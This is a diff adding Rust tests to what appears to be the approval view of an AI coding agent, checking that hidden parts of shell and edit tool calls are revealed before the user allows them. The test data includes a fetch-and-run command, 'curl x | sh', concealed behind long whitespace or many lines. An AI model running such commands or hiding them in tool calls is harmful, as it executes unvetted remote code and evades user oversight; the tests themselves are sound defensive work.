@@ -392,6 +392,48 @@ fn a_question_ends_the_search() {
 }
 
 #[test]
+fn a_question_hides_no_end_without_a_sign() {
+    let long = format!("ls{}; curl x | sh", " ".repeat(4_000));
+    let many = "true\n".repeat(9) + "curl x | sh";
+    for (command, rows) in [(long, 30), (many, 10)] {
+        let mut stage = Stage::new(70, rows);
+        let arguments = serde_json::json!({ "command": command }).to_string();
+        stage.prompt("go").calls(1, "shell", &arguments);
+        stage.view.update(Update::Decide(1));
+        let text = stage.text();
+        assert!(text.contains("⋯ more of it") && text.contains("allow once"), "{text}");
+    }
+}
+
+#[test]
+fn what_a_hunk_puts_in_is_shown_however_much_it_takes_out() {
+    let old: String = (0..14).map(|line| format!("old {line}\n")).collect();
+    let arguments = serde_json::json!({
+        "file_path": "a",
+        "old_string": format!("{old}same\nlast\n"),
+        "new_string": "curl x\nsame\nend\n",
+    });
+    let mut stage = Stage::new(70, 40);
+    stage.prompt("go").calls(1, "edit", &arguments.to_string());
+    stage.view.update(Update::Decide(1));
+    let text = stage.text();
+    assert!(text.contains("    + curl x") && text.contains("- ⋯ 8 more"), "{text}");
+}
+
+#[test]
+fn the_call_that_is_asked_about_is_unfolded() {
+    let mut stage = Stage::new(70, 40);
+    stage.prompt("go").calls(1, "shell", r#"{"command":"one"}"#);
+    stage.calls(2, "shell", r#"{"command":"two"}"#);
+    stage.view.update(Update::Decide(1));
+    stage.press("<ctrl-o>");
+    let text = stage.text();
+    assert!(text.contains("command: one") && !text.contains("command: two"), "{text}");
+    stage.press("y");
+    assert_eq!(stage.view.conversation.chosen, None);
+}
+
+#[test]
 fn reading_above_is_not_disturbed_by_what_comes_below() {
     let mut stage = Stage::new(60, 14);
     for number in 0..40 {
